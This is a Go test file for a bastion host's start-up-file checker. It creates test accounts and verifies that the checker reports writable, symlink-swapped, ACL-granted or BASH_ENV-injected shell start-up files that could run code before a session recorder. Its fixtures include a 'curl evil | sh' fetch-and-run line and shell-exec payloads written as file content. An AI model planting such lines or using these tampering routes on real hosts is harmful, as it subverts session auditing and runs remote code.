package bastion_test

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
	"golang.org/x/sys/unix"

	"github.com/sshca/sshca/bastion"
	"github.com/sshca/sshca/internal/testenv"
)

// startupHost is a directory tree standing in for a bastion's homes and /etc, with a
// recorded group and accounts the test creates (useradd) and removes: alice and bob in the
// group, carol not. Every home and start-up file starts root-owned and safe.
type startupHost struct {
	root, etc         string
	group             string
	gid               int
	alice, bob, carol string
	uid               map[string]int
	check             *bastion.StartupCheck
}

func (h *startupHost) home(name string) string { return filepath.Join(h.root, "home", name) }

func newStartupHost(t *testing.T) *startupHost {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("creating accounts needs root")
	}
	groupadd := testenv.Need(t, "groupadd", "/usr/sbin")
	groupdel := testenv.Need(t, "groupdel", "/usr/sbin")
	useradd := testenv.Need(t, "useradd", "/usr/sbin")
	userdel := testenv.Need(t, "userdel", "/usr/sbin")
	h := &startupHost{root: t.TempDir(), uid: map[string]int{}}
	for _, d := range []string{filepath.Dir(h.root), h.root} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	name := func(prefix string) string {
		b := make([]byte, 4)
		_, _ = rand.Read(b)
		return prefix + hex.EncodeToString(b)
	}
	h.group = name("skg")
	if out, err := exec.Command(groupadd, h.group).CombinedOutput(); err != nil {
		t.Fatalf("groupadd: %v %s", err, out)
	}
	t.Cleanup(func() {
		if out, err := exec.Command(groupdel, h.group).CombinedOutput(); err != nil {
			t.Errorf("groupdel %s: %v %s", h.group, err, out)
		}
	})
	g, err := user.LookupGroup(h.group)
	if err != nil {
		t.Fatal(err)
	}
	h.gid, _ = strconv.Atoi(g.Gid)
	mk := func(member bool) string {
		n := name("sku")
		args := []string{"-M", "-d", h.home(n), "-s", "/bin/bash", "-p", "*"}
		if member {
			args = append(args, "-G", h.group)
		}
		if out, err := exec.Command(useradd, append(args, n)...).CombinedOutput(); err != nil {
			t.Fatalf("useradd %s: %v %s", n, err, out)
		}
		t.Cleanup(func() {
			if out, err := exec.Command(userdel, n).CombinedOutput(); err != nil {
				t.Errorf("userdel %s: %v %s", n, err, out)
			}
		})
		u, err := user.Lookup(n)
		if err != nil {
			t.Fatal(err)
		}
		h.uid[n], _ = strconv.Atoi(u.Uid)
		for _, d := range []string{h.home(n), filepath.Join(h.home(n), ".ssh")} {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		writeRoot(t, filepath.Join(h.home(n), ".bashrc"), "# bashrc of "+n+"\n", 0o644)
		writeRoot(t, filepath.Join(h.home(n), ".profile"), ". ~/.bashrc\n", 0o644)
		return n
	}
	h.alice, h.bob, h.carol = mk(true), mk(true), mk(false)
	// carol can change everything of hers: she is not recorded, so it is not reported.
	if err := os.Chown(h.home(h.carol), h.uid[h.carol], 0); err != nil {
		t.Fatal(err)
	}
	h.etc = filepath.Join(h.root, "etc")
	if err := os.MkdirAll(filepath.Join(h.etc, "profile.d"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeRoot(t, filepath.Join(h.etc, "profile"), "for f in /etc/profile.d/*.sh; do . $f; done\n", 0o644)
	writeRoot(t, filepath.Join(h.etc, "profile.d", "a.sh"), "umask 022\n", 0o644)
	writeRoot(t, filepath.Join(h.etc, "bash.bashrc"), "PS1='$ '\n", 0o644)
	h.check = &bastion.StartupCheck{Groups: []string{h.group}, Users: []string{"root"},
		SystemFiles: []string{filepath.Join(h.etc, "profile"), filepath.Join(h.etc, "profile.d"), filepath.Join(h.etc, "bash.bashrc")}}
	return h
}

func writeRoot(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

// unsafe is the problems of account, as "path: why".
func unsafe(st bastion.StartupStatus, account string) []string {
	var out []string
	for _, p := range st.Unsafe {
		if p.Account == account {
			out = append(out, p.Path+": "+p.Why)
		}
	}
	return out
}

// TestStartupFilesRealAccounts: the start-up files of the recorded accounts (members of a
// group, and root) are judged with accounts the test creates; each way the account could
// change what its shell runs before the recorder is reported (a file it owns, one everyone
// or its group can write, a writable home or ~/.ssh, a symbolic link swapped into a
// directory it owns, a link into a sticky directory whose target is missing, a POSIX ACL, a
// writable /etc/profile.d file), and the lookalikes that it cannot use are not (a group it
// is not in, a link to a root-owned file, an existing root-owned file in a sticky directory,
// an ACL entry for someone else, root's own files).
func TestStartupFilesRealAccounts(t *testing.T) {
	h := newStartupHost(t)
	st := h.check.Check()
	if st.Error != "" {
		t.Fatalf("check: %s", st.Error)
	}
	for _, want := range []string{h.alice, h.bob, "root"} {
		if !slices.Contains(st.Accounts, want) {
			t.Errorf("accounts %v lack %s", st.Accounts, want)
		}
	}
	if slices.Contains(st.Accounts, h.carol) || len(st.Unsafe) != 0 {
		t.Fatalf("safe layout: accounts %v, unsafe %v (carol is not recorded)", st.Accounts, st.Unsafe)
	}
	bashrc := filepath.Join(h.home(h.alice), ".bashrc")
	shared := filepath.Join(h.root, "shared")
	sticky := filepath.Join(h.root, "tmp")
	for _, d := range []struct {
		path string
		uid  int
		mode os.FileMode
	}{{shared, h.uid[h.alice], 0o755}, {sticky, 0, 0o777 | os.ModeSticky}} {
		if err := os.Mkdir(d.path, d.mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(d.path, d.mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(d.path, d.uid, 0); err != nil {
			t.Fatal(err)
		}
	}
	safeDir := filepath.Join(h.root, "safe")
	if err := os.Mkdir(safeDir, 0o755); err != nil {
		t.Fatal(err)
	}
	writeRoot(t, filepath.Join(safeDir, "bashrc"), "# shared\n", 0o644)
	writeRoot(t, filepath.Join(shared, "bashrc"), "# shared\n", 0o644)
	writeRoot(t, filepath.Join(sticky, "bashrc"), "# in /tmp\n", 0o644)
	// swapIn replaces path by a symbolic link to target, and puts the file back at the end.
	swapIn := func(t *testing.T, path, target string) {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Remove(path); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, path); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			os.Remove(path)
			writeRoot(t, path, string(b), 0o644)
		})
	}
	chown := func(t *testing.T, path string, uid, gid int) {
		var st unix.Stat_t
		if err := unix.Lstat(path, &st); err != nil {
			t.Fatal(err)
		}
		if err := os.Lchown(path, uid, gid); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = os.Lchown(path, int(st.Uid), int(st.Gid)) })
	}
	chmod := func(t *testing.T, path string, mode os.FileMode) {
		fi, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = os.Chmod(path, fi.Mode()) })
	}
	for _, c := range []struct {
		name    string
		account string // whose problems are compared
		change  func(t *testing.T)
		want    []string // substrings, one per problem, in order; none: safe
	}{
		{"file owned by the account", h.alice, func(t *testing.T) { chown(t, bashrc, h.uid[h.alice], 0) },
			[]string{bashrc + ": file " + bashrc + " is owned by " + h.alice}},
		{"file writable by everyone", h.alice, func(t *testing.T) { chmod(t, bashrc, 0o666) },
			[]string{"is writable by everyone (mode 0666)"}},
		{"file writable by a group the account is in", h.alice, func(t *testing.T) { chown(t, bashrc, 0, h.gid); chmod(t, bashrc, 0o664) },
			[]string{"writable by its group " + strconv.Itoa(h.gid) + ", which " + h.alice + " is in"}},
		{"file writable by a group the account is not in", h.alice, func(t *testing.T) { chmod(t, bashrc, 0o664) }, nil},
		{"writable parent directory (home owned by the account)", h.alice, func(t *testing.T) { chown(t, h.home(h.alice), h.uid[h.alice], 0) },
			slices.Repeat([]string{"directory " + h.home(h.alice) + " is owned by " + h.alice}, len(bastion.DefaultHomeStartupFiles))},
		{"writable ~/.ssh: ~/.ssh/rc can be created", h.alice, func(t *testing.T) { chown(t, filepath.Join(h.home(h.alice), ".ssh"), h.uid[h.alice], 0) },
			[]string{".ssh/rc: directory", ".ssh/environment: directory"}},
		{"symlink swapped in, into a directory the account owns", h.alice, func(t *testing.T) { swapIn(t, bashrc, filepath.Join(shared, "bashrc")) },
			[]string{bashrc + ": directory " + shared + " is owned by " + h.alice}},
		{"relative symlink through .. into that directory", h.alice, func(t *testing.T) { swapIn(t, bashrc, "../../shared/bashrc") },
			[]string{"directory " + shared + " is owned by " + h.alice}},
		{"symlink owned by the account in a root-owned directory", h.alice, func(t *testing.T) {
			swapIn(t, bashrc, filepath.Join(safeDir, "bashrc"))
			chown(t, bashrc, h.uid[h.alice], 0)
		}, nil},
		{"symlink owned by the account in a sticky directory", h.alice, func(t *testing.T) {
			link := filepath.Join(sticky, "link")
			if err := os.Symlink(filepath.Join(safeDir, "bashrc"), link); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.Remove(link) })
			chown(t, link, h.uid[h.alice], 0)
			swapIn(t, bashrc, link)
		}, []string{"directory " + sticky + " is writable by everyone"}},
		{"symlink to a root-owned file in a root-owned directory", h.alice, func(t *testing.T) { swapIn(t, bashrc, filepath.Join(safeDir, "bashrc")) }, nil},
		{"symlink to an existing root-owned file in a sticky directory", h.alice, func(t *testing.T) { swapIn(t, bashrc, filepath.Join(sticky, "bashrc")) }, nil},
		{"symlink to a missing file in a sticky directory", h.alice, func(t *testing.T) { swapIn(t, bashrc, filepath.Join(sticky, "nothing")) },
			[]string{"directory " + sticky + " is writable by everyone"}},
		{"POSIX ACL entry for the account", h.alice, func(t *testing.T) { setACL(t, bashrc, h.uid[h.alice]) },
			[]string{"is writable by " + h.alice + " (user entry) through its POSIX ACL"}},
		{"POSIX ACL entry for another account", h.alice, func(t *testing.T) { setACL(t, bashrc, h.uid[h.carol]) }, nil},
		{"/etc/profile.d file writable by the recorded group", h.bob, func(t *testing.T) {
			p := filepath.Join(h.etc, "profile.d", "a.sh")
			chown(t, p, 0, h.gid)
			chmod(t, p, 0o664)
		}, []string{"a.sh: file"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.change(t)
			got := unsafe(h.check.Check(), c.account)
			if len(got) != len(c.want) {
				t.Fatalf("problems of %s: %q, want %d like %q", c.account, got, len(c.want), c.want)
			}
			for i := range got {
				if !strings.Contains(got[i], c.want[i]) {
					t.Errorf("problem %d: %q, want it to contain %q", i, got[i], c.want[i])
				}
			}
		})
	}
	if st := h.check.Check(); len(st.Unsafe) != 0 {
		t.Errorf("after every case was undone: %v", st.Unsafe)
	}
	// A recorded group that does not exist is said, and the rest still checked.
	h.check.Groups = append(h.check.Groups, "no-such-group-skg")
	if st := h.check.Check(); !strings.Contains(st.Error, "no-such-group-skg") || !slices.Contains(st.Accounts, h.alice) ||
		!strings.Contains(strings.Join(st.Problems(), "\n"), "no-such-group-skg") {
		t.Errorf("missing group: error %q, accounts %v, problems %v", st.Error, st.Accounts, st.Problems())
	}
}

// setACL gives uid read and write on path through an access ACL (mask rw), and removes it at
// the end; it skips the test where the file system has no ACLs.
func setACL(t *testing.T, path string, uid int) {
	t.Helper()
	b := binary.LittleEndian.AppendUint32(nil, 2)
	for _, e := range []struct {
		tag, perm uint16
		id        uint32
	}{{0x01, 6, 0xffffffff}, {0x02, 6, uint32(uid)}, {0x04, 4, 0xffffffff}, {0x10, 6, 0xffffffff}, {0x20, 4, 0xffffffff}} {
		b = binary.LittleEndian.AppendUint16(b, e.tag)
		b = binary.LittleEndian.AppendUint16(b, e.perm)
		b = binary.LittleEndian.AppendUint32(b, e.id)
	}
	if err := unix.Setxattr(path, "system.posix_acl_access", b, 0); errors.Is(err, unix.ENOTSUP) || errors.Is(err, unix.EOPNOTSUPP) {
		t.Skipf("no POSIX ACLs on this file system: %v", err)
	} else if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = unix.Removexattr(path, "system.posix_acl_access")
		_ = os.Chmod(path, 0o644)
	})
}

// TestStartupFilesChangeAlerts: once running, a change to a recorded account's start-up file
// (its content, a symbolic link swapped in by rename, a file added to /etc/profile.d) is
// seen through inotify within seconds, long before the hourly re-check: counted, kept in the
// status with the accounts that read it, and handed to OnChange; a change to an account that
// is not recorded is not, and writes to other files of a home start no pass at all.
func TestStartupFilesChangeAlerts(t *testing.T) {
	h := newStartupHost(t)
	changes := make(chan bastion.StartupChange, 16)
	h.check.Every = time.Hour
	h.check.OnChange = func(c bastion.StartupChange) { changes <- c }
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.check.Run(ctx) }()
	defer func() { cancel(); <-done }()
	testenv.Eventually(t, 5*time.Second, "the first pass", func() bool { return !h.check.Status().Checked.IsZero() })
	time.Sleep(100 * time.Millisecond) // the watches are added right after the first pass

	expect := func(what, path string, accounts []string, now string) {
		t.Helper()
		select {
		case c := <-changes:
			slices.Sort(c.Accounts)
			slices.Sort(accounts)
			if c.Path != path || !slices.Equal(c.Accounts, accounts) || !strings.Contains(c.Now, now) {
				t.Errorf("%s: change %+v, want %s read by %v, now %q (status %+v)", what, c, path, accounts, now, h.check.Status())
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("%s: no change seen within 5 s (status %+v)", what, h.check.Status())
		}
	}
	// Other files of a home change all the time (.bash_history): they start no pass.
	checked := h.check.Status().Checked
	for i := range 20 {
		writeRoot(t, filepath.Join(h.home(h.alice), ".bash_history"), strings.Repeat("ls\n", i), 0o600)
	}
	time.Sleep(300 * time.Millisecond)
	if got := h.check.Status().Checked; !got.Equal(checked) {
		t.Errorf("a write to .bash_history started a pass (checked %v, then %v)", checked, got)
	}
	bashrc := filepath.Join(h.home(h.alice), ".bashrc")
	writeRoot(t, filepath.Join(h.home(h.carol), ".bashrc"), "curl evil | sh\n", 0o644)
	writeRoot(t, bashrc, "# edited\n", 0o644)
	expect("content", bashrc, []string{h.alice}, "file uid 0")

	evil := filepath.Join(h.root, "evil")
	writeRoot(t, evil, "exec bash\n", 0o644)
	tmp := filepath.Join(h.home(h.alice), ".bashrc.new")
	if err := os.Symlink(evil, tmp); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, bashrc); err != nil {
		t.Fatal(err)
	}
	expect("symlink swap", bashrc, []string{h.alice}, "link "+bashrc+" -> "+evil)

	// Written beside, then renamed in, so that it appears whole.
	added := filepath.Join(h.etc, "profile.d", "z.sh")
	writeRoot(t, filepath.Join(h.root, "z.sh"), "exec sh\n", 0o644)
	if err := os.Rename(filepath.Join(h.root, "z.sh"), added); err != nil {
		t.Fatal(err)
	}
	expect("file added to /etc/profile.d", added, []string{h.alice, h.bob, "root"}, "file uid 0")

	select {
	case c := <-changes:
		t.Errorf("an unexpected change: %+v", c)
	case <-time.After(300 * time.Millisecond):
	}
	if st := h.check.Status(); st.Changes != 3 || len(st.Recent) != 3 || st.Recent[1].Path != bashrc {
		t.Errorf("status after 3 changes: %+v", st)
	}
}

// TestStartupFilesChangeBeforeWatch: a change made after a pass but before the watches that
// pass leads to are in place sends no inotify event; it is still seen at once, not at the
// hourly re-check, because the check passes again once it added a watch (the window
// TestAgentHealthStartupFiles fell into under load).
func TestStartupFilesChangeBeforeWatch(t *testing.T) {
	h := newStartupHost(t)
	h.check.Every = time.Hour
	bashrc := filepath.Join(h.home(h.alice), ".bashrc")
	var once sync.Once
	bastion.AfterPass(h.check, func() { once.Do(func() { writeRoot(t, bashrc, "# edited before the watch\n", 0o644) }) })
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.check.Run(ctx) }()
	defer func() { cancel(); <-done }()
	testenv.Eventually(t, 5*time.Second, "the change made before the watch is seen", func() bool { return h.check.Status().Changes == 1 })
	if st := h.check.Status(); len(st.Recent) != 1 || st.Recent[0].Path != bashrc {
		t.Errorf("status: %+v, want the one change to %s", st, bashrc)
	}
}

// TestStartupFilesPeriodicCheck: without inotify (NoWatch, e.g. NFS homes) a change is found
// by the re-check every Every, on a fake clock: not before the interval, at it.
func TestStartupFilesPeriodicCheck(t *testing.T) {
	h := newStartupHost(t)
	clk := clockwork.NewFakeClock()
	h.check.Clock, h.check.Every, h.check.NoWatch = clk, 10*time.Minute, true
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.check.Run(ctx) }()
	defer func() { cancel(); <-done }()
	wctx, wcancel := context.WithTimeout(ctx, 10*time.Second)
	defer wcancel()
	if err := clk.BlockUntilContext(wctx, 1); err != nil {
		t.Fatal(err)
	}
	writeRoot(t, filepath.Join(h.home(h.bob), ".profile"), "exec /bin/sh\n", 0o644)
	clk.Advance(9 * time.Minute)
	if err := clk.BlockUntilContext(wctx, 1); err != nil {
		t.Fatal(err)
	}
	if n := h.check.Status().Changes; n != 0 {
		t.Fatalf("%d changes before the interval", n)
	}
	clk.Advance(time.Minute)
	testenv.Eventually(t, 5*time.Second, "the re-check at the interval finds the change", func() bool { return h.check.Status().Changes == 1 })
	if r := h.check.Status().Recent; len(r) != 1 || r[0].Path != filepath.Join(h.home(h.bob), ".profile") {
		t.Errorf("recent changes %+v", r)
	}
}

// TestStartupFilesPAMEnvironment: with UsePAM yes (a site that takes its accounts from LDAP
// adds it), Debian's /etc/pam.d/sshd runs pam_env with user_readenv=1, which reads
// ~/.pam_environment into the session: BASH_ENV set there makes "bash -c sshca-record" source
// a file of the account's before the recorder starts. An account that owns that file in an
// otherwise root-owned home is reported.
func TestStartupFilesPAMEnvironment(t *testing.T) {
	h := newStartupHost(t)
	env := filepath.Join(h.home(h.alice), ".pam_environment")
	writeRoot(t, env, "BASH_ENV DEFAULT=/tmp/x\n", 0o644)
	if err := os.Chown(env, h.uid[h.alice], 0); err != nil {
		t.Fatal(err)
	}
	got := unsafe(h.check.Check(), h.alice)
	if len(got) != 1 || !strings.Contains(got[0], ".pam_environment") || !strings.Contains(got[0], "owned by "+h.alice) {
		t.Fatalf("alice's own ~/.pam_environment: problems %q, want one naming it", got)
	}
	if got := unsafe(h.check.Check(), h.bob); len(got) != 0 {
		t.Fatalf("bob (root-owned home, no ~/.pam_environment): problems %q, want none", got)
	}
}
